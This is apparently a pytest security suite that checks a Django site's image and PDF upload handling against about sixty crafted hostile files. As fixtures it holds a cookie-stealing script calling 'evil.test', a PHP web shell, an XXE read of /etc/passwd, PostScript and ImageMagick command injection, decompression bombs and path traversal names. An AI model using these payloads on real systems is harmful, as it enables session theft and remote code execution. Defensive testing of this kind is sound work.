"""Uploads: polyglots, bombs, hidden places (S6; FixMyStreet 1.8.2). Sixty files, made here."""

from __future__ import annotations

import io
import json
import resource
import struct
import subprocess
import sys
import time
import zipfile
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from django.core.files.storage import default_storage
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from PIL import Image, PngImagePlugin

from kopir.files import decoding
from kopir.files.actions import BadUpload, attach, keep_document, keep_image
from kopir.files.models import StoredFile
from kopir.files.rules import PIXELS
from tests.security.answers import body

pytestmark = [pytest.mark.django_db, pytest.mark.shown]
SCRIPT = b"<script>fetch('//evil.test/'+document.cookie)</script>"
PHP = b"<?php system($_GET['c']); ?>"
MARKS = (
    b"<script",
    b"<?php",
    b"evil.test",
    b"GPSLatitude",
    b"zqgps",
    b"Exif",
    b"http://ns.adobe.com/xap",
    b"PK\x03\x04",
)
LARGEST_S = 60
Made = tuple[str, bytes, bool]  # a name, what is sent, whether it may be kept at all


def picture(kind: str = "JPEG", size: tuple[int, int] = (64, 48), mode: str = "RGB", **save: Any) -> bytes:
    out = io.BytesIO()
    Image.new(mode, size).save(out, kind, **save)
    return out.getvalue()


def exif(orientation: int = 6) -> Any:
    told = Image.Exif()
    told[0x0112] = orientation
    told[0x010F] = "zqgps camera"
    told.get_ifd(0x8825).update({1: "N", 2: (43.0, 14.0, 12.0), 3: "E", 4: (76.0, 53.0, 1.0), 29: "2026:11:25"})
    return told


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_of(width: int, height: int, rows: int) -> bytes:
    """A PNG that says how large it is and holds so many black rows, packed tightly."""
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    data = zlib.compress(b"\0" * ((width * 3 + 1) * rows), 9)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def zip_bomb() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr("big", b"\0" * 20_000_000)
    return out.getvalue()


def polyglots() -> Iterator[Made]:
    for kind in ("JPEG", "PNG", "WEBP", "AVIF"):
        good = picture(kind)
        yield f"{kind} with a script behind", good + SCRIPT, True
        yield f"{kind} with PHP behind", good + PHP, True
        yield f"{kind} with a zip behind", good + zip_bomb(), True
        yield f"{kind} behind a script", SCRIPT + good, False
        yield f"{kind} cut off", good[: len(good) // 2], False
        yield f"{kind} of another's first bytes", b"GIF89a" + good[6:], False
    yield "GIF and script", b"GIF89a/*" + b"\0" * 20 + b"*/=1;alert(1)//", False
    yield "GIF", picture("GIF"), False
    yield "BMP", picture("BMP"), False
    yield "TIFF", picture("TIFF"), False
    yield "ICO", picture("ICO", (32, 32)), False
    yield "JPEG with PHP in its comment", picture("JPEG", comment=PHP), True
    texts = PngImagePlugin.PngInfo()
    texts.add_text("Comment", SCRIPT.decode())
    texts.add_itxt("XML:com.adobe.xmp", "<x:xmpmeta>zqgps</x:xmpmeta>")
    yield "PNG with a script in its text", picture("PNG", pnginfo=texts), True


def documents() -> Iterator[Made]:
    svg = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
    yield "SVG with script", svg, False
    yield "SVG behind XML", b'<?xml version="1.0"?>' + svg, False
    yield "SVG that includes a file", b'<!DOCTYPE s [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>', False
    yield "HTML", b"<!doctype html>" + SCRIPT, False
    yield "PHP", PHP, False
    yield "PostScript", b"%!PS-Adobe-3.0\n(%pipe%id) (w) file", False
    yield "ImageMagick script", b'push graphic-context\nimage over 0,0 0,0 "|id"', False
    yield "Windows program", b"MZ" + b"\0" * 200, False
    yield "ELF program", b"\x7fELF" + b"\0" * 200, False
    yield "zip", zip_bomb(), False
    yield "empty", b"", False
    yield "NULs", b"\0" * 500, False
    yield "only the first bytes of a JPEG", b"\xff\xd8\xff", False
    yield "only the first bytes of a PNG", b"\x89PNG\r\n\x1a\n", False
    yield "only the first bytes of an AVIF", b"\0\0\0\x20ftypavif" + b"\0" * 60, False
    yield "only the first bytes of a WebP", b"RIFF\xff\xff\xff\xffWEBPVP8X" + b"\xff" * 40, False


def bombs() -> Iterator[Made]:
    yield "PNG of 50 000²", png_of(50_000, 50_000, 40), False
    yield "PNG of 2³¹", png_of(2**31 - 1, 2**31 - 1, 0), False
    yield "PNG just over the limit", png_of(8_000, 5_001, 5), False
    yield "PNG with fewer rows than it says", png_of(6_000, 6_000, 3), True  # the rest is black
    texts = PngImagePlugin.PngInfo()
    texts.add_text("Comment", "A" * 30_000_000, zip=True)
    yield "PNG with a packed text of 30 MB", picture("PNG", pnginfo=texts), False
    yield "WebP of 16 383²", picture("WEBP", (16_383, 2_600), method=0), False
    yield "JPEG that says 65 500²", huge_jpeg(), False


def huge_jpeg() -> bytes:
    good = bytearray(picture("JPEG"))
    at = good.index(b"\xff\xc0") + 5
    good[at : at + 4] = struct.pack(">HH", 65_500, 65_500)
    return bytes(good)


def places() -> Iterator[Made]:
    for kind in ("JPEG", "WEBP", "PNG", "AVIF"):
        yield f"{kind} with GPS", picture(kind, exif=exif()), True
        yield f"{kind} with an ICC profile and a place", picture(kind, exif=exif(3), icc_profile=b"zqgps" * 40), True
    for kind in ("JPEG", "WEBP"):
        yield f"{kind} with XMP", picture(kind, xmp=b"<x:xmpmeta>exif:GPSLatitude=zqgps</x:xmpmeta>"), True
    yield "CMYK JPEG", picture("JPEG", mode="CMYK"), True
    yield "PNG of 16 bit", picture("PNG", mode="I;16"), True
    yield "animated WebP", animated("WEBP"), True
    yield "animated PNG", animated("PNG"), True


def animated(kind: str) -> bytes:
    out = io.BytesIO()
    frames = [Image.new("RGB", (40, 40), colour) for colour in ("red", "blue")]
    frames[0].save(out, kind, save_all=True, append_images=frames[1:])
    return out.getvalue()


FILES = [*polyglots(), *documents(), *bombs(), *places()]


def test_there_are_sixty_files_of_many_kinds() -> None:
    assert len(FILES) >= 60
    assert len({name for name, _data, _may in FILES}) == len(FILES)


def kept_of(data: bytes) -> StoredFile | None:
    try:
        return keep_image(SimpleUploadedFile('"><script>alert(1)</script>.php', data, content_type="text/html"))
    except BadUpload:
        return None


@pytest.mark.parametrize(("name", "data", "may_be_kept"), FILES, ids=[name for name, _data, _may in FILES])
def test_nothing_of_a_strangers_file_survives(client: Client, name: str, data: bytes, may_be_kept: bool) -> None:
    begun = time.monotonic()
    stored = kept_of(data)
    assert time.monotonic() - begun < LARGEST_S
    if stored is None:
        assert not StoredFile.objects.exists()
        assert not may_be_kept or name.startswith("AVIF"), "refused though it is a picture"
        return
    assert may_be_kept, "kept though it is none"
    attach(stored, is_public=True)
    for there in (stored.url, stored.small_url):
        answer = client.get(there)
        shown = body(answer)
        assert answer.headers["Content-Type"] == "image/webp"
        assert answer.headers["X-Content-Type-Options"] == "nosniff"
        assert answer.headers["Content-Security-Policy"] == "default-src 'none'; sandbox"
        assert "script" not in answer.headers["Content-Disposition"]
        assert [mark for mark in MARKS if mark in shown] == []
        with Image.open(io.BytesIO(shown)) as picture_shown:
            assert picture_shown.format == "WEBP"
            assert not picture_shown.getexif()
            assert {"exif", "icc_profile", "xmp"} & set(picture_shown.info) == set()
            assert getattr(picture_shown, "n_frames", 1) == 1


@pytest.mark.parametrize("trailer", [b"", SCRIPT + b"%%EOF\n"])
def test_a_paper_that_is_a_script_too_is_only_ever_a_download(client: Client, trailer: bytes) -> None:
    """A PDF is kept as it came; no browser shows it on our own address."""
    data = b"%PDF-1.4\n" + SCRIPT + b"\n1 0 obj<</OpenAction<</S/JavaScript/JS(alert(1))>>>>endobj\n%%EOF\n" + trailer
    stored = keep_document(SimpleUploadedFile("../../etc/passwd\0.html", data, content_type="text/html"))
    attach(stored, is_public=True)
    answer = client.get(stored.url)
    assert body(answer) == data
    assert answer.headers["Content-Type"] == "application/pdf"
    assert answer.headers["Content-Disposition"] == f'attachment; filename="{stored.public_id}.pdf"'
    assert answer.headers["X-Content-Type-Options"] == "nosniff"
    assert answer.headers["Content-Security-Policy"] == "default-src 'none'; sandbox"


@pytest.mark.parametrize("data", [SCRIPT + b"%PDF-1.4 %%EOF", b"MZ%PDF-1.4 %%EOF", b"%PDF-1.4 without an end"])
def test_what_only_looks_like_a_paper_is_refused(data: bytes) -> None:
    with pytest.raises(BadUpload):
        keep_document(SimpleUploadedFile("a.pdf", data))


def in_a_worker(data: bytes) -> tuple[int, int]:
    """Decode as the site does; return how it ended and the most memory it held, in MB."""
    task = {"formats": ["JPEG", "PNG", "WEBP", "AVIF"], "pixels": PIXELS, "side": 1_920, "small_side": 480}
    code = (
        "import resource, subprocess, sys\n"
        "done = subprocess.run(sys.argv[1:], stdin=sys.stdin, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n"
        "print(done.returncode, resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss // 1024)\n"
    )
    words = [sys.executable, "-c", code, sys.executable, "-I", decoding.__file__, json.dumps(task)]
    said = subprocess.run(words, input=data, capture_output=True, check=True).stdout.split()
    return int(said[0]), int(said[1])


LARGE: dict[str, Callable[[], bytes]] = {
    "PNG of 40 Mpx": lambda: png_of(8_000, 5_000, 5_000),
    "PNG of 50 000²": lambda: png_of(50_000, 50_000, 40),
    "WebP of 40 Mpx": lambda: picture("WEBP", (8_000, 5_000), method=0),
    "JPEG of 40 Mpx": lambda: picture("JPEG", (8_000, 5_000)),
}


@pytest.mark.parametrize("name", LARGE)
def test_no_worker_takes_more_than_half_a_gigabyte(name: str) -> None:
    status, most = in_a_worker(LARGE[name]())
    assert status in {0, 1}
    assert most <= 512


def test_the_decoder_bounds_itself(tmp_path: Path) -> None:
    written = str(tmp_path / "written")
    code = (
        f"import sys; sys.path.insert(0, {str(decoding.__file__.rpartition('/')[0])!r})\n"
        "import decoding; decoding.limit()\n"
        "try:\n    bytearray(600 * 1024 * 1024)\nexcept MemoryError:\n    print('bounded')\n"
        f"try:\n    open({written!r}, 'w').write('x' * 9)\nexcept OSError:\n    print('no file')\n"
    )
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=False)
    assert done.stdout.startswith("bounded")
    assert resource.getrlimit(resource.RLIMIT_AS) == (resource.RLIM_INFINITY, resource.RLIM_INFINITY)


def test_a_picture_is_upright_without_being_told() -> None:
    stored = keep_image(SimpleUploadedFile("a.jpg", picture("JPEG", (64, 48), exif=exif(6))))
    assert (stored.width, stored.height) == (48, 64)
    assert default_storage.exists(stored.small_name)


GEOTAGGED = [
    picture(kind, exif=exif(), **more) for kind, more in (("JPEG", {"comment": b"zqgps"}), ("WEBP", {}), ("PNG", {}))
]
CHANGES = st.lists(st.tuples(st.integers(0, 5_000), st.integers(0, 8), st.binary(max_size=6)), max_size=6)


@settings(max_examples=40, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(data=st.sampled_from(GEOTAGGED), changes=CHANGES)
def test_no_change_of_a_geotagged_picture_lets_its_place_through(db: None, data: bytes, changes: Any) -> None:
    """Broken heads are where readers and writers of pictures disagree: what is kept is always drawn anew."""
    for place, length, piece in changes:
        at = place % (len(data) + 1)
        data = data[:at] + piece + data[at + length :]
    stored = kept_of(data)
    if stored is None:
        return
    with default_storage.open(stored.small_name) as file:
        shown = file.read()
    assert b"zqgps" not in shown
    with Image.open(io.BytesIO(shown)) as kept:
        assert not kept.getexif()
        assert {"exif", "icc_profile", "xmp", "comment"}.isdisjoint(kept.info)
